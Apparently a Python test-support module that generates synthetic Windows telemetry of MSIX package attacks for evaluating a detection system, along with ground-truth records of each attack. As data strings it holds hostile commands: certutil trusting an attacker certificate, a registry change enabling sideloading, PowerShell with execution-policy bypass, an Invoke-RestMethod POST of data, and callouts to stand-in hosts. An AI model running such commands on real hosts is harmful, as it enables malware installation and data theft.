"""What an attacker does on a host, step by step, and the record of what it was."""

from __future__ import annotations

from dataclasses import dataclass, replace
from random import Random

from msix.publisher import publisher_id

from tests.company.catalogue import frameworks
from tests.company.deployments import ADD, PROVISION, STAGE, Deployment, deploy
from tests.company.hosts import Host, distinguished_name
from tests.company.journal import MINUTE, SECOND, SYSTEM, Journal, epoch
from tests.company.processes import CMD, EXPLORER, POWERSHELL, SYSTEM32, Process, Telemetry, in_package, known
from tests.company.scripts import first_run
from tests.company.settings import ON, TRUSTED_PEOPLE, UNLOCK

UNSIGNED_FIELD = "OID.2.25.311729368913984317654407730594956997722=1"
_WORDS = ("Alder", "Bracken", "Cobalt", "Dunmore", "Elmfield", "Farrow", "Glenhall", "Harwick", "Ivybridge", "Kelso")
_TRADES = ("Consulting", "Digital", "Creative", "Engineering", "Softwares", "Logistics", "Design", "Research")
_TOWNS = ("Luton", "Slough", "Wetherby", "Dagenham", "Harrow", "Nairn")


@dataclass(frozen=True)
class Hostile:
    """The truth about one attack.

    Attributes:
        id: unique in the day.
        scenario: its name.
        techniques: of MITRE ATT&CK.
        host, user: where, and the SID of the person.
        packages: full names of the attacker's packages.
        companions: full names of what Windows brought along with them, frameworks.
        activities: ActivityIDs of its deployments.
        first, last: epoch seconds of its first and last event.
        shows: what the events let one see, in words.
        marks: command lines, paths, addresses and names that its events tell, in lower case; empty for attacks by MSIX
            packages, which their packages tell apart.
        moments: epoch seconds of each of its events; empty as above.
    """

    id: str
    scenario: str
    techniques: tuple[str, ...]
    host: str
    user: str
    packages: tuple[str, ...]
    companions: tuple[str, ...]
    activities: tuple[str, ...]
    first: float
    last: float
    shows: tuple[str, ...]
    marks: frozenset[str] = frozenset()
    moments: tuple[float, ...] = ()


@dataclass(frozen=True)
class Payload:
    """A package of an attacker: ``publisher`` stands in its manifest."""

    name: str
    file: str
    publisher: str
    version: str = "1.0.0.0"
    title: str = " "

    @property
    def full_name(self) -> str:
        """Its full name."""
        return f"{self.name}_{self.version}_x64__{publisher_id(self.publisher)}"


class Attack:
    """One attack on one host; time passes with each step."""

    def __init__(self, telemetry: Telemetry, rng: Random, host: Host, start: int) -> None:
        self.telemetry, self.rng, self.host, self.time = telemetry, rng, host, start
        self._first = start
        self._packages: list[str] = []
        self._companions: list[str] = []
        self._activities: list[str] = []
        self._shows: list[str] = []

    @property
    def journal(self) -> Journal:
        """Where the host writes."""
        return self.telemetry.journal

    def record(self, number: str, scenario: str, techniques: tuple[str, ...]) -> Hostile:
        """The truth, when all is done."""
        return Hostile(
            id=number,
            scenario=scenario,
            techniques=techniques,
            host=self.host.name,
            user=self.host.user,
            packages=tuple(dict.fromkeys(self._packages)),
            companions=tuple(dict.fromkeys(self._companions)),
            activities=tuple(self._activities),
            first=epoch(self._first),
            last=epoch(self.time + MINUTE),
            shows=tuple(dict.fromkeys(self._shows)),
        )

    def waits(self, least: int, most: int) -> None:
        """Some seconds pass."""
        self.time += self.rng.randrange(least * SECOND, most * SECOND)

    def shows(self, *what: str) -> None:
        """Note what can be seen."""
        self._shows.extend(what)

    def fresh_publisher(self) -> str:
        """A publisher whom no list knows: a company founded for its certificate, as those of FakeBat were."""
        name = f"{self.rng.choice(_WORDS)} {self.rng.choice(_TRADES)} {self.rng.choice(('Ltd', 'Limited'))}"
        return distinguished_name(name, self.rng.choice(_TOWNS), self.rng.choice(("", "England")), "GB")

    def unsigned_publisher(self) -> str:
        """The publisher of an unsigned package: Windows wants this last field."""
        return f"CN={self.rng.choice(_WORDS)}, {UNSIGNED_FIELD}"

    # ------------------------------------------------------------ deployments

    def install(
        self,
        payload: Payload,
        uri: str,
        caller: str = "AppInstaller.exe",
        *,
        needs: tuple[str, ...] = (),
        **facts: object,
    ) -> None:
        """The package is installed, with the frameworks it needs, or is not if ``facts`` have an error.

        ``facts`` are fields of Deployment.
        """
        main = payload.full_name
        beside = frameworks(needs)
        one = Deployment(
            operation=ADD,
            user=self.host.user,
            caller=caller,
            requested=uri.replace("\\", "/").rpartition("/")[2],
            main=main,
            uris=(uri,),
            added=(*beside, main),
            source=uri,
            full_trust=True,
            signer=payload.publisher,
            display=payload.title,
        )
        one = replace(one, **facts)  # type: ignore[arg-type]  # as the docstring says
        self._packages.extend((main, *(name for _file, name in one.inner)))
        self._packages.append(one.main)
        self._companions.extend(beside)
        self._activities.append(deploy(self.journal, self.host, self.time, one))
        self.shows(f"operation {one.operation} of {one.main}" + (f" fails with {one.error}" if one.error else ""))
        if beside:
            self.shows("a framework of Microsoft's beside it in 855")
        self.waits(15, 40)

    def provision(self, payload: Payload, source: str) -> None:
        """The package is staged and provisioned for all users, as DISM does."""
        self.install(payload, source, caller="dismhost.exe", operation=STAGE, user=SYSTEM)
        family = f"{payload.name}_{publisher_id(payload.publisher)}"
        manifest = in_package(payload.full_name, "AppxManifest.xml")
        self.install(
            payload,
            source,
            caller="dismhost.exe",
            operation=PROVISION,
            user=SYSTEM,
            requested=family,
            uris=(manifest,),
        )

    # ------------------------------------------------------------ what goes before

    def shell(self, command: str, parent: Process | None = None, *, level: str = "Medium") -> Process:
        """PowerShell is started with this command line."""
        above = parent or known(self.host, CMD)
        self.waits(1, 5)
        return self.telemetry.start(self.host, self.time, POWERSHELL, command, above, level=level)

    def script(self, text: str, path: str = "") -> None:
        """PowerShell compiles this."""
        self.waits(1, 3)
        self.telemetry.script(self.host, self.time, text, path)
        if self.host.scripts:
            self.shows("4104 with the script")

    def trusts_certificate(self, publisher: str) -> None:
        """The attacker's certificate comes into TrustedPeople."""
        number = Random(publisher).getrandbits(160)  # noqa: S311 - the same certificate has the same number
        command = f"certutil.exe -addstore TrustedPeople {self.host.profile}\\Downloads\\update.cer"
        self.waits(5, 40)
        tool = self.telemetry.start(
            self.host, self.time, f"{SYSTEM32}\\certutil.exe", command, known(self.host, CMD), level="High"
        )
        value = f"{TRUSTED_PEOPLE}\\{number:040X}\\Blob"
        self.telemetry.registry(self.host, self.time + SECOND, tool, value, "Binary Data")
        self.shows("a certificate comes into TrustedPeople" if self.host.sysmon else "certutil -addstore TrustedPeople")
        self.waits(20, 200)

    def allows_sideloading(self) -> None:
        """All trusted packages are allowed."""
        command = f"reg.exe add {UNLOCK} /v AllowAllTrustedApps /t REG_DWORD /d 1 /f"
        self.waits(5, 40)
        tool = self.telemetry.start(
            self.host, self.time, f"{SYSTEM32}\\reg.exe", command, known(self.host, CMD), level="High"
        )
        self.telemetry.registry(self.host, self.time + SECOND, tool, f"{UNLOCK}\\AllowAllTrustedApps", ON)
        self.shows("AllowAllTrustedApps is set")
        self.waits(20, 200)

    # ------------------------------------------------------------ what comes after

    def runs_script(self, payload: Payload, script: str = "worker.ps1") -> None:
        """The Package Support Framework starts the attacker's script [PSF]; it calls out."""
        folder = in_package(payload.full_name, "")
        launcher = self._opens(f"{folder}PsfLauncher64.exe")
        self.waits(1, 4)
        outer = self.telemetry.start(
            self.host, self.time, POWERSHELL, first_run(folder, script), launcher, folder=folder
        )
        inner = f"Powershell.exe -ExecutionPolicy Bypass -file .\\{script}"
        shell = self.telemetry.start(self.host, self.time + SECOND, POWERSHELL, inner, outer, folder=folder)
        self.waits(2, 5)
        self.shows("PowerShell out of the package")
        self.script("$d = [Text.Encoding]::UTF8.GetString($b); Invoke-RestMethod -Uri $u -Method Post -Body $d", script)
        self._calls_out(shell)

    def runs_stub(self, payload: Payload, stub: str = "AI_STUBS\\AiStubX64Elevated.exe") -> None:
        """A stub of Advanced Installer starts PowerShell; it calls out."""
        folder = in_package(payload.full_name, "")
        started = self._opens(f"{folder}{stub}", original="popupwrapper.exe")
        self.waits(1, 4)
        command = f'powershell.exe -NoProfile -ExecutionPolicy Bypass -File "{folder}refresh.ps1"'
        shell = self.telemetry.start(self.host, self.time, POWERSHELL, command, started, folder=folder)
        self.shows("a stub of Advanced Installer, PowerShell out of the package")
        self._calls_out(shell)

    def runs_program(self, payload: Payload, program: str = "app.exe") -> None:
        """The package's own program calls out, and starts a shell."""
        app = self._opens(in_package(payload.full_name, program))
        self.waits(1, 6)
        command = "cmd.exe /c start /min tar.exe -xf %TEMP%\\data.zip -C %APPDATA%"
        self.telemetry.start(self.host, self.time, CMD, command, app)
        self.shows("a shell out of the package")
        self._calls_out(app)

    def _opens(self, image: str, *, original: str = "") -> Process:
        self.waits(10, 300)
        return self.telemetry.start(self.host, self.time, image, original=original, parent=known(self.host, EXPLORER))

    def _calls_out(self, process: Process) -> None:
        self.waits(1, 20)
        name = f"{self.rng.choice(_WORDS).lower()}-{self.rng.randrange(100)}.example"
        self.telemetry.call(self.host, self.time, process, name, f"93.184.216.{self.rng.randrange(1, 255)}")
        if self.host.sysmon:
            self.shows("a connection to a public address")
        self.time += 2 * SECOND
